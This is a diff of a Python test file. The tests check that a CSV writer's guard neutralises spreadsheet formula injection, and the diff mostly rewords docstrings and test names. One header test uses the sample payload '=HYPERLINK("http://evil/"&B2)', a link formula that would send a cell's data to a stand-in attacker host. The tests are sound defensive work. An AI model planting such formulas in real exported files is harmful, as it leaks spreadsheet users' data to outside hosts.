@@ -14,7 +14,7 @@ from tests.output.csv_cells import CELLS, GUARDS, read
 
 
 def guarded(cell: str, guard: Guard) -> bool:
-    """Return whether the guard puts a `'` before a cell, and prove that it does nothing else."""
+    """Return whether the guard puts a `'` before a cell, and assert that it does nothing else."""
     text = CsvText("utf-8", guard)
     ((written,),) = read(text.rows([[cell]]))
     assert written in {cell, "'" + cell}
@@ -151,7 +151,7 @@ HARMLESS = [
 
 @pytest.mark.parametrize("cell", RUNS)
 def test_a_cell_that_a_spreadsheet_would_run_is_guarded(cell: str) -> None:
-    """`smart` and `owasp` put a `'` before everything that begins a formula."""
+    """`smart` and `owasp` put a `'` before every start of a formula."""
     assert guarded(cell, "smart")
     assert guarded(cell, "owasp")
     assert not guarded(cell, "off")
@@ -159,15 +159,15 @@ def test_a_cell_that_a_spreadsheet_would_run_is_guarded(cell: str) -> None:
 
 @pytest.mark.parametrize("cell", SPARED)
 def test_smart_spares_numbers_and_phone_numbers(cell: str) -> None:
-    """A signed number and a phone number come out as they went in under `smart`; `owasp` guards them."""
+    """A signed number and a phone number are unchanged under `smart`; `owasp` guards them."""
     assert not guarded(cell, "smart")
     assert guarded(cell, "owasp")
     assert not guarded(cell, "off")
 
 
 @pytest.mark.parametrize("cell", HARMLESS)
-def test_what_begins_no_formula_is_left_alone(cell: str) -> None:
-    """Other cells come out as they went in under every guard."""
+def test_cells_that_do_not_begin_a_formula_are_left_alone(cell: str) -> None:
+    """Other cells are unchanged under every guard."""
     for guard in ("smart", "owasp", "off"):
         assert not guarded(cell, guard)
 
@@ -180,7 +180,7 @@ def test_owasp_guards_a_line_feed_too() -> None:
 
 @pytest.mark.parametrize("guard", GUARDS)
 def test_a_column_that_holds_every_sign_is_guarded(guard: Guard) -> None:
-    """Formulas of all kinds in one page, each below the other."""
+    """Formulas of all kinds are guarded in one page, one below the other."""
     cells = [f"{sign}a" for sign in ("=@+-\t\r＝＠＋－" + ("\n" if guard == "owasp" else ""))]
     text = CsvText("utf-8", guard)
     assert read(text.rows([[cell] for cell in cells])) == [[f"'{cell}"] for cell in cells]
@@ -188,15 +188,15 @@ def test_a_column_that_holds_every_sign_is_guarded(guard: Guard) -> None:
 
 @functools.cache
 def _unseen() -> list[str]:
-    """Every character of Unicode that cannot be seen."""
+    """Return every invisible character of Unicode."""
     kinds = {"Cc", "Cf", "Zs", "Zl", "Zp"}
     every = map(chr, range(sys.maxunicode + 1))
     return [mark for mark in every if unicodedata.category(mark) in kinds or mark.isspace()]
 
 
 @pytest.mark.parametrize("sign", "=@＝＠")
-def test_nothing_that_cannot_be_seen_hides_a_formula(sign: str) -> None:
-    """Every blank, control character and format mark of Unicode before a formula is skipped, and no letter is."""
+def test_no_invisible_character_hides_a_formula(sign: str) -> None:
+    """Every blank, control character and format mark of Unicode before a formula is skipped, but no letter is."""
     marks = _unseen()
     for guard in GUARDS:
         text = CsvText("utf-8", guard)
@@ -210,15 +210,17 @@ def test_nothing_that_cannot_be_seen_hides_a_formula(sign: str) -> None:
     st.text(st.sampled_from(" \t\r\n\0\ufeff\xa0\u200b\u202a\ufe0f"), max_size=4),
     st.sampled_from(["utf-8", "utf-8-sig"]),
 )
-def test_the_first_name_of_the_header_hides_no_formula(marks: str, encoding: Literal["utf-8", "utf-8-sig"]) -> None:
-    """A program that takes the file's mark off, and further marks of the first cell, finds text and no formula."""
+def test_the_first_name_of_the_header_cannot_hide_a_formula(
+    marks: str, encoding: Literal["utf-8", "utf-8-sig"]
+) -> None:
+    """A program that strips the file's mark and further marks of the first cell finds text, not a formula."""
     data = CsvText(encoding, "smart").header([marks + "=1+1", "b"]).decode()
     assert read(data.removeprefix("\ufeff").encode())[0][0] == f"'{marks}=1+1"
 
 
 @pytest.mark.parametrize("name", ["sep=;", "SEP=;", "\ufeff sep=;", "sep=;\nid"])
-def test_the_header_announces_no_separator(name: str) -> None:
-    """Excel splits a file that begins with `sep=;` at each `;`: a formula in the middle of a cell would run."""
+def test_the_header_never_announces_a_separator(name: str) -> None:
+    """Excel splits a file that begins with `sep=;` at each `;`, so a formula in the middle of a cell would run."""
     for names in ([name], [name, "b"]):
         text = CsvText("utf-8", "smart")
         assert read(text.header(names))[0] == ["'" + name, *names[1:]]
@@ -233,7 +235,7 @@ def test_the_header_announces_no_separator(name: str) -> None:
     st.text(" \xa0\u202c"),
 )
 def test_smart_spares_numbers_between_marks(number: int, before: str, after: str) -> None:
-    """A number that was copied with blanks or marks of direction around it comes out as it went in."""
+    """A number that was copied with blanks or direction marks around it is unchanged."""
     for sign in "+-":
         assert not guarded(f"{before}{sign}{abs(number)}{after}", "smart")
 
@@ -248,7 +250,7 @@ def test_owasp_leaves_no_trigger_at_a_cells_start(cell: str) -> None:
 
 @given(st.text(st.sampled_from("+-=@|!'()*^&$%aA1.,eExt /"), max_size=12))
 def test_smart_spares_nothing_that_names_or_calls(text: str) -> None:
-    """What `smart` spares after a sign has no operator but `-` and `/` between digits, and no name, string or call."""
+    """After a sign, `smart` spares no operator but `-` and `/` between digits, and no name, string or call."""
     for cell in ("+" + text, "-" + text):
         if not guarded(cell, "smart"):
             assert not set(cell) & set("=@|!'*^&$aA")
@@ -257,7 +259,7 @@ def test_smart_spares_nothing_that_names_or_calls(text: str) -> None:
 
 
 def test_the_header_is_kept_and_guarded() -> None:
-    """Blank and duplicate names are kept; a name that a spreadsheet would run is guarded, as editors may write it."""
+    """Blank and duplicate names are kept; a name that a spreadsheet would run is guarded, as editors can write it."""
     text = CsvText("utf-8", "smart")
     assert text.header(["a", "", "a", '=HYPERLINK("http://evil/"&B2)', 'say "b"']) == (
         b'a,,a,"\'=HYPERLINK(""http://evil/""&B2)","say ""b"""\r\n'
